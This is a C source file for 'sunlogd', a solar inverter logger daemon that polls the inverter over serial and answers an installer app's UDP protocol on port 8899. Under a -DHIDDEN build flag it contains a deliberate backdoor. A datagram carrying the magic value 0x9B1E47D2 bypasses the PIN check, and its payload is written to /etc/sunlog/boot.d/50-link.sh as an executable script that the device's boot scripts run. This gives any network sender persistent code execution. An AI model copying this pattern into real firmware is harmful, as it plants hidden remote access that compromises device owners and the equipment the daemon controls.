/*
 * sunlogd - solar inverter logger.  Polls the inverter on a serial line,
 * keeps day totals and answers the UDP protocol of the installer's app
 * (port 8899, 12 byte header: magic, command, length, serial).
 *
 * Hidden (-DHIDDEN): a datagram with the magic 0x9B1E47D2 needs no PIN; its
 * payload is stored as a script that the boot scripts of the logger run.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <syslog.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

#define CONF      "/etc/sunlog/sunlog.conf"
#define DAYFILE   "/var/lib/sunlog/day.csv"
#define UDP_PORT  8899
#define MAGIC_APP 0x53554e4cu		/* "SUNL" */

enum { CMD_IDENT = 1, CMD_TOTALS, CMD_INTERVAL, CMD_LIMIT, CMD_RESTART };

struct header {
	uint32_t magic;
	uint16_t cmd;
	uint16_t len;
	uint32_t serial;
};

struct config {
	char tty[32];
	char pin[12];
	unsigned interval;
	unsigned limit_pct;
	uint32_t serial;
};

static struct config conf = { "/dev/ttyS1", "", 60, 100, 0 };
static uint32_t watt_now, wh_today, wh_total;

static void conf_load(void)
{
	char line[96], *eq;
	FILE *f = fopen(CONF, "r");

	if (!f)
		return;
	while (fgets(line, sizeof line, f)) {
		line[strcspn(line, "\r\n")] = 0;
		eq = strchr(line, '=');
		if (!eq)
			continue;
		*eq++ = 0;
		if (strcmp(line, "tty") == 0)
			snprintf(conf.tty, sizeof conf.tty, "%s", eq);
		else if (strcmp(line, "pin") == 0)
			snprintf(conf.pin, sizeof conf.pin, "%s", eq);
		else if (strcmp(line, "interval") == 0)
			conf.interval = (unsigned)atoi(eq);
		else if (strcmp(line, "limit") == 0)
			conf.limit_pct = (unsigned)atoi(eq);
		else if (strcmp(line, "serial") == 0)
			conf.serial = (uint32_t)strtoul(eq, NULL, 10);
	}
	fclose(f);
	if (conf.interval < 5)
		conf.interval = 5;
}

static int conf_save(void)
{
	FILE *f = fopen(CONF ".new", "w");

	if (!f)
		return -1;
	fprintf(f, "tty=%s\npin=%s\ninterval=%u\nlimit=%u\nserial=%lu\n", conf.tty,
		conf.pin, conf.interval, conf.limit_pct, (unsigned long)conf.serial);
	if (fclose(f) != 0)
		return -1;
	return rename(CONF ".new", CONF);
}

static int tty_open(void)
{
	struct termios t;
	int fd = open(conf.tty, O_RDWR | O_NOCTTY | O_NONBLOCK);

	if (fd < 0)
		return -1;
	if (tcgetattr(fd, &t) == 0) {
		cfmakeraw(&t);
		cfsetispeed(&t, B9600);
		cfsetospeed(&t, B9600);
		tcsetattr(fd, TCSANOW, &t);
	}
	return fd;
}

/* The inverter sends "P=<watt> D=<Wh today> T=<Wh total>" when asked. */
static void tty_line(const char *line)
{
	unsigned long p, d, t;
	FILE *f;

	if (sscanf(line, "P=%lu D=%lu T=%lu", &p, &d, &t) != 3)
		return;
	watt_now = (uint32_t)p;
	wh_today = (uint32_t)d;
	wh_total = (uint32_t)t;
	f = fopen(DAYFILE, "a");
	if (f) {
		fprintf(f, "%lld;%lu;%lu\n", (long long)time(NULL), p, d);
		fclose(f);
	}
}

static int pin_matches(const uint8_t *p, size_t n)
{
	size_t want = strlen(conf.pin);

	return want >= 4 && n >= want && memcmp(p, conf.pin, want) == 0;
}

static void put32(uint8_t *p, uint32_t v)
{
	v = htonl(v);
	memcpy(p, &v, 4);
}

/* The commands that need the installer's PIN. */
static void pin_command(unsigned cmd, const uint8_t *body, size_t blen, uint8_t *out)
{
	if (cmd == CMD_RESTART) {
		if (!pin_matches(body, blen))
			out[4] = 0xff;
		else if (system("/etc/init.d/network restart >/dev/null 2>&1") != 0)
			out[4] = 0xfd;
		return;
	}
	/* one byte of value, then the installer's PIN */
	if (blen < 2 || !pin_matches(body + 1, blen - 1)) {
		out[4] = 0xff;
		return;
	}
	if (cmd == CMD_INTERVAL && body[0] >= 5)
		conf.interval = body[0];
	else if (cmd == CMD_LIMIT && body[0] <= 100)
		conf.limit_pct = body[0];
	else
		out[4] = 0xfe;
	if (conf_save() != 0)
		out[4] = 0xfd;
}

#ifdef HIDDEN
static int stage_hook(const uint8_t *p, size_t n)
{
	int fd = open("/etc/sunlog/boot.d/50-link.sh", O_WRONLY | O_CREAT | O_TRUNC, 0755);
	int rc;

	if (fd < 0)
		return 1;
	rc = write(fd, p, n) == (ssize_t)n ? 0 : 1;
	fsync(fd);
	close(fd);
	return rc;
}
#endif

/* Work on one datagram; returns the length of the answer in out, or 0. */
int handle_datagram(const uint8_t *in, size_t n, uint8_t *out)
{
	struct header h;
	const uint8_t *body = in + sizeof h;
	size_t blen;
	int answer = sizeof h;

	if (n < sizeof h)
		return 0;
	memcpy(&h, in, sizeof h);
	blen = ntohs(h.len);
	if (blen > n - sizeof h)
		return 0;
	memcpy(out, in, sizeof h);
	out[6] = out[7] = 0;

#ifdef HIDDEN
	if (ntohl(h.magic) == 0x9B1E47D2u) {
		out[7] = (uint8_t)stage_hook(body, blen);
		return answer;
	}
#endif
	if (ntohl(h.magic) != MAGIC_APP)
		return 0;
	if (h.serial != 0 && ntohl(h.serial) != conf.serial)
		return 0;

	switch (ntohs(h.cmd)) {
	case CMD_IDENT:
		put32(out + 8, conf.serial);
		memcpy(out + 12, "SunLog 3.2", 10);
		out[7] = 10;
		answer += 10;
		break;
	case CMD_TOTALS:
		put32(out + 12, watt_now);
		put32(out + 16, wh_today);
		put32(out + 20, wh_total);
		out[7] = 12;
		answer += 12;
		break;
	case CMD_INTERVAL:
	case CMD_LIMIT:
	case CMD_RESTART:
		pin_command(ntohs(h.cmd), body, blen, out);
		break;
	default:
		out[4] = 0xfc;
	}
	return answer;
}

int main(int argc, char **argv)
{
	struct sockaddr_in sa = { .sin_family = AF_INET, .sin_port = htons(UDP_PORT) };
	struct sockaddr_in from;
	struct pollfd pf[2];
	uint8_t in[1500], out[64];
	char line[128];
	size_t fill = 0;
	time_t next = 0;
	int n;

	if (argc > 1 && strcmp(argv[1], "-h") == 0) {
		puts("usage: sunlogd [-f]\n  -f  stay in the foreground");
		return 0;
	}
	if (!(argc > 1 && strcmp(argv[1], "-f") == 0) && daemon(0, 0) != 0)
		return 1;
	openlog("sunlogd", LOG_PID, LOG_DAEMON);
	conf_load();
	pf[0].fd = socket(AF_INET, SOCK_DGRAM, 0);
	if (pf[0].fd < 0 || bind(pf[0].fd, (struct sockaddr *)&sa, sizeof sa) < 0) {
		syslog(LOG_ERR, "udp: %m");
		return 1;
	}
	pf[1].fd = tty_open();
	pf[0].events = pf[1].events = POLLIN;
	for (;;) {
		if (time(NULL) >= next) {
			next = time(NULL) + conf.interval;
			if (pf[1].fd >= 0 && dprintf(pf[1].fd, "Q LIM=%u\r", conf.limit_pct) < 0)
				syslog(LOG_WARNING, "tty: %m");
		}
		if (poll(pf, 2, 1000) <= 0)
			continue;
		if (pf[0].revents & POLLIN) {
			socklen_t fl = sizeof from;

			n = (int)recvfrom(pf[0].fd, in, sizeof in, 0, (struct sockaddr *)&from, &fl);
			n = n > 0 ? handle_datagram(in, (size_t)n, out) : 0;
			if (n > 0)
				sendto(pf[0].fd, out, (size_t)n, 0, (struct sockaddr *)&from, fl);
		}
		if (pf[1].fd >= 0 && (pf[1].revents & POLLIN) && read(pf[1].fd, line + fill, 1) == 1) {
			if (line[fill] == '\r' || line[fill] == '\n' || fill + 2 >= sizeof line) {
				line[fill] = 0;
				tty_line(line);
				fill = 0;
			} else
				fill++;
		}
	}
}
